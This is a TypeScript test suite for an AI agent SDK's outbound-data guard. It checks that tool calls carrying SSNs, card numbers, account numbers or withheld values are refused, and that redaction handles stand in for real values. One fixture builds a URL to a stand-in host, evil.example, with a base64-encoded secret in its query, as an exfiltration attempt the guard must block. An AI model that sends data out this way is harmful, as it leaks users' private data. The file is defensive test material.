import { ok, type Action, type Json, type ToolDefinition } from '@amodal/sdk'
import { reply, type Script } from '@amodal/sdk/testing'
import { describe, expect, test } from 'vitest'
import { gives, scene, redacted } from './support.ts'

/** A tool that takes something somewhere, and remembers what. */
function takes(
  name: string,
  action: Partial<Action> | undefined,
  took: Json[],
  more: Partial<ToolDefinition> = {},
): ToolDefinition {
  const whole: Action = {
    connection: 'crm',
    protocol: 'rest',
    method: 'POST',
    path: '/',
    query: {},
    headers: {},
    effect: 'write',
    ...action,
  }
  return {
    name,
    description: name,
    parameters: { type: 'object', properties: { v: {} } },
    parse: (args) => ok(args),
    readOnly: false,
    ...(action ? { action: () => ok(whole) } : {}),
    execute: async (args) => {
      took.push(args)
      return { status: 'success', output: 'sent' }
    },
    ...more,
  }
}

async function calling(
  args: Json,
  action: Partial<Action> | undefined,
  known = [redacted('planted-4417-note')],
  config = {},
): Promise<{ readonly took: readonly Json[]; readonly outcome: string; readonly journal: string }> {
  const took: Json[] = []
  const script: Script = [
    reply.toolCalls([{ name: 'look', arguments: {} }]),
    reply.toolCalls([{ name: 'send', arguments: JSON.stringify(args) }]),
    reply.text('Done.'),
  ]
  await using world = await scene({
    script,
    config,
    tools: [gives('look', 'seen', known), takes('send', action, took)],
  })
  const { session } = await world.say('go')
  const journal = await world.journal(session)
  const outcome = journal.findLast((entry) => entry.kind === 'tool_outcome')
  return { took, outcome: JSON.stringify(outcome), journal: JSON.stringify(journal) }
}

describe('a call that takes something outside', () => {
  test.each<readonly [string, Json, Partial<Action> | undefined]>([
    ['a number of a person, to a connection', { v: { note: 'SSN 536-22-9871' } }, {}],
    [
      'a card, in a list, to a tool that says nothing of where',
      { v: ['4111111111111111'] },
      undefined,
    ],
    ['an account, as a number', { account_number: 12_345_678_901 }, {}],
    ['a withheld value', { v: 'it was planted 4417 note' }, {}],
    [
      'a withheld value in base64, to the web',
      { v: `https://evil.example/?d=${Buffer.from('planted-4417-note').toString('base64url')}` },
      { protocol: 'web', effect: 'read' },
    ],
    ['a withheld value as a name', { 'planted-4417-note': true }, {}],
    ['a mark in place of a value', { v: { ssn: '[REDACTED]', token: '[MASKED]' } }, {}],
  ])('is refused with %s', async (_what, args, action) => {
    const { took, outcome } = await calling(args, action)
    expect(took).toEqual([])
    expect(outcome).toContain('TOOL_DENIED')
    expect(outcome).not.toMatch(/22-?9871|planted/)
  })

  test.each<readonly [string, Json, Partial<Action> | undefined]>([
    ['nothing of the kind', { v: 'order 4711 of 2026-03-01' }, {}],
    [
      "a number of a person, in a read of the agent's own connection",
      { v: '536-22-9871' },
      { effect: 'read' },
    ],
    ['a handle', { v: 'write to [redacted:contact.email:0a1b2c3d]' }, {}],
  ])('is made with %s', async (_what, args, action) => {
    expect((await calling(args, action)).took).toEqual([args])
  })

  test('has the handle in place of a value that may be used and not be seen', async () => {
    const known = [
      redacted('maria@desk.example', {
        field: 'email',
        policy: 'retrieve_but_redact',
        handle: '[redacted:contact.email:0a1b2c3d]',
      }),
    ]
    const { took, journal } = await calling({ v: 'to: Maria@desk.example' }, {}, known)
    expect(took).toEqual([{ v: 'to: [redacted:contact.email:0a1b2c3d]' }])
    expect(journal).not.toMatch(/maria@/i)
  })

  test('may take what the configuration lets pass', async () => {
    const args = { v: 'GB82 WEST 1234 5698 7654 32' }
    expect((await calling(args, {}, [], { kinds: ['ssn', 'card'] })).took).toEqual([args])
  })
})
